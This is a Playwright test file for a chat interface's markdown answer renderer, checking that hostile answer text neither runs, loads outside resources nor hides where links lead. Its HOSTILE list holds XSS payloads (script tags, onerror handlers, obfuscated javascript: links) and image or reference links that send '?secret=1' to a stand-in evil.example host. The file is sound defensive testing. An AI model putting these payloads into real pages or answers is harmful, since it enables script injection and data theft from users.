"""Answers are hostile text: nothing in them runs, loads, or hides where it leads."""

import json
import random

import pytest
from playwright.sync_api import Page, Request

from tests.frontend import scripted

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><script>window.hit = 1</script></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    "<a href='javascript:window.hit=1'>x</a>",
    "<form action='https://evil.example'><button>x</button></form>",
    "<style>body { background: url(https://evil.example/css) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<div style='background:url(https://evil.example/d)'>x</div>",
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1)",
    "[click](java\tscript:window.hit=1)",
    "[click](&#106;avascript:window.hit=1)",
    "[click](&#x6A;avascript&colon;window.hit=1)",
    "[click](\x01javascript:window.hit=1)",
    "[click](data:text/html,<script>window.hit=1</script>)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/sign-out/)",
    "<javascript:window.hit=1>",
    "![pixel](https://evil.example/p.png?secret=1)",
    "![pixel](https://evil.example/p.png 'x\" onerror=\"window.hit=1')",
    "![x](data:image/svg+xml,<svg onload=window.hit=1>)",
    "[![pixel](https://evil.example/i.png)](https://evil.example/l)",
    "![ref][leak]\n\n[leak]: https://evil.example/r.png?secret=1",
    "[ref][leak]\n\n[leak]: https://evil.example/r?secret=1",
    "[leak]\n\n[leak]: https://evil.example/r?secret=1",
    "[leak]: https://evil.example/r?secret=1\n\n[see this][leak]",
    "```html\n<img src=x onerror=window.hit=1>\n```",
    '```"><img src=x onerror=window.hit=1>\nx\n```',
    "`<img src=x onerror=window.hit=1>`",
    "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <svg onload=window.hit=1> | c |",
    "| a | b |\n|---|---|\n| c | ![x](https://evil.example/t) |",
    "# <img src=x onerror=window.hit=1>",
    "- [ ] <input autofocus onfocus=window.hit=1>",
    "[1](javascript:window.hit=1)",
    "[1]: https://evil.example/c",
    "[a](https://evil.example/'onmouseover='window.hit=1)",
    '[a](https://evil.example/"onmouseover="window.hit=1)',
    "<!-- <img src=x onerror=window.hit=1> -->",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "<x-custom onclick=window.hit=1 data-cite=1>x</x-custom>",
    "<sup data-cite='1' onclick='window.hit=1'>1</sup>",
]
EXECUTABLE = (
    "script, style, iframe, object, embed, form, input, img, image, svg:not(.icon), math, link, "
    "meta, base, video, audio, picture, source, template, [style], [srcset], [src]"
)
SHOW = """async (text) => {
  const { AnswerView } = await import("/static/js/chat/answer.js");
  document.body.replaceChildren();
  const view = new AnswerView(document.body, () => null);
  view.update([{ kind: "text", text }]);
  const nodes = [...document.body.querySelectorAll("*")];
  for (const node of nodes) {
    for (const kind of ["mouseover", "focus", "load"]) node.dispatchEvent(new Event(kind));
  }
  await new Promise((done) => setTimeout(done, 20));
  return {
    html: document.body.innerHTML,
    text: document.body.textContent.trim(),
    hit: window.hit ?? null,
    forbidden: [...document.querySelectorAll(%s)].map((node) => node.outerHTML),
    listeners: nodes.flatMap((node) => node.getAttributeNames())
      .filter((name) => name.startsWith("on")),
    links: [...document.querySelectorAll("a")].map((a) => ({
      href: a.href, rel: a.rel, referrer: a.referrerPolicy, text: a.textContent })),
  };
}""" % json.dumps(f":is({EXECUTABLE}):not(head *)")  # noqa: UP031  braces are JavaScript's here


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_runs_loads_and_hides_nothing(blank: Page, site: str, text: str) -> None:
    asked: list[str] = []
    blank.evaluate("async () => { await import('/static/js/chat/answer.js'); }")
    blank.on("request", lambda request: asked.append(_url(request)))
    shown = blank.evaluate(SHOW, text)
    assert shown["hit"] is None
    assert shown["forbidden"] == []
    assert shown["listeners"] == []
    for link in shown["links"]:
        assert link["href"].startswith("https://evil.example/")
        assert "evil.example" in link["text"]
        assert link["rel"] == "noopener noreferrer nofollow"
        assert link["referrer"] == "no-referrer"
    # The sprite of icons is the only thing that an answer may bring in.
    assert [url for url in asked if not url.startswith(f"{site}/static/icons.svg")] == []


def _url(request: Request) -> str:
    return request.url


@pytest.mark.parametrize("scheme", ["javascript:x", "data:x", "vbscript:x", "/sign-out/", "//a.b"])
def test_a_link_to_another_scheme_becomes_its_words(blank: Page, scheme: str) -> None:
    shown = blank.evaluate(SHOW, f"[the words]({scheme})")
    assert shown["links"] == []
    assert shown["text"] == "the words"


def test_reference_links_are_not_followed(blank: Page) -> None:
    shown = blank.evaluate(SHOW, "[see][1]\n\n[1]: https://evil.example/?q=secret")
    assert [link["text"] for link in shown["links"]] != ["see"]
    assert "[see]" in shown["text"]


def test_raw_html_is_shown_as_text(blank: Page) -> None:
    shown = blank.evaluate(SHOW, "before <b>bold</b> after\n\n<div>block</div>")
    assert "<b>bold</b>" in shown["text"]
    assert "<div>block</div>" in shown["text"]


def test_a_link_shows_its_host(blank: Page) -> None:
    shown = blank.evaluate(SHOW, "[my bank](https://xn--80ak6aa92e.com/login)")
    assert shown["links"][0]["text"] == "my bankxn--80ak6aa92e.com"
    bare = blank.evaluate(SHOW, "https://example.com/page")
    assert bare["links"][0]["text"] == "https://example.com/page"


def test_a_link_that_names_another_host_is_given_away(blank: Page) -> None:
    shown = blank.evaluate(SHOW, "[https://example.com](https://evil.example/)")
    assert "evil.example" in shown["links"][0]["text"]


def test_markdown_is_set(blank: Page) -> None:
    shown = blank.evaluate(SHOW, scripted.ANSWER)["html"]
    for tag in (
        "<strong>28 days</strong>",
        '<ol dir="auto">',
        "<th",
        'align="right"',
        "<pre",
        "<figcaption>",
    ):
        assert tag in shown


def test_headings_stay_below_those_of_the_page(blank: Page) -> None:
    shown = blank.evaluate(SHOW, "# one\n\n###### six")["html"]
    assert "<h3" in shown
    assert "<h6" in shown
    assert "<h1" not in shown


CITE = """async ([text, known]) => {
  const { AnswerView } = await import("/static/js/chat/answer.js");
  document.body.replaceChildren();
  const cite = (number) => {
    if (!known.includes(number)) return null;
    const mark = document.createElement("button");
    mark.textContent = `source ${number}`;
    return mark;
  };
  new AnswerView(document.body, cite).update([{ kind: "text", text }]);
  return document.body.textContent.trim();
}"""


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("28 days [1].", "28 days source 1."),
        ("28 days [1][2].", "28 days source 1source 2."),
        ("28 days [9].", "28 days [9]."),
        ("`a[1]`", "a[1]"),
        ("an array[1] of", "an arraysource 1 of"),
        ("[100]", "[100]"),
    ],
)
def test_numbers_of_sources_become_marks(blank: Page, text: str, shown: str) -> None:
    assert blank.evaluate(CITE, [text, [1, 2]]) == shown


GROW = """async ([text, cuts]) => {
  const { AnswerView } = await import("/static/js/chat/answer.js");
  const grown = document.createElement("div");
  const whole = document.createElement("div");
  document.body.replaceChildren(grown, whole);
  const view = new AnswerView(grown, () => null);
  const moved = [];
  let finished = [];
  for (const cut of cuts) {
    view.update([{ kind: "text", text: text.slice(0, cut) }]);
    const now = [...grown.children];
    finished.slice(0, -2).forEach((node, index) => { if (now[index] !== node) moved.push(cut); });
    finished = now;
  }
  new AnswerView(whole, () => null).update([{ kind: "text", text }]);
  return { grown: grown.innerHTML, whole: whole.innerHTML, moved };
}"""
CORPUS = [
    scripted.ANSWER,
    "1. a\n\n2. b\n\n- c\n\n  more of c\n\nend",
    "para\n===\n\n> quote\nlazy\n\n    code\n\n| a | b |\n|---|---|\n| c | d |\n\n***\n",
    "```py\nprint(1)\n\n\nprint(2)\n```\nafter\n\n~~~\nnever closed\n\nstill code",
    *HOSTILE[:12],
]


@pytest.mark.parametrize("text", CORPUS)
def test_a_growing_answer_ends_as_the_whole_one(blank: Page, text: str) -> None:
    chance = random.Random(7)  # noqa: S311  not a secret
    few = sorted({*chance.choices(range(len(text) + 1), k=9), len(text)})
    for cuts in (list(range(len(text) + 1)), few):
        result = blank.evaluate(GROW, [text, cuts])
        assert result["grown"] == result["whole"]


def test_finished_blocks_are_never_touched_again(blank: Page) -> None:
    cuts = list(range(len(scripted.ANSWER) + 1))
    assert blank.evaluate(GROW, [scripted.ANSWER, cuts])["moved"] == []


def test_a_long_answer_grows_quickly(blank: Page) -> None:
    text = scripted.ANSWER * 40
    milliseconds = blank.evaluate(
        """async (text) => {
          const { AnswerView } = await import("/static/js/chat/answer.js");
          const view = new AnswerView(document.body, () => null);
          view.update([{ kind: "text", text: text.slice(0, -200) }]);
          const began = performance.now();
          for (let end = text.length - 200; end < text.length; end += 20) {
            view.update([{ kind: "text", text: text.slice(0, end) }]);
          }
          return (performance.now() - began) / 10;
        }""",
        text,
    )
    assert len(text) > 25_000
    assert milliseconds < 100
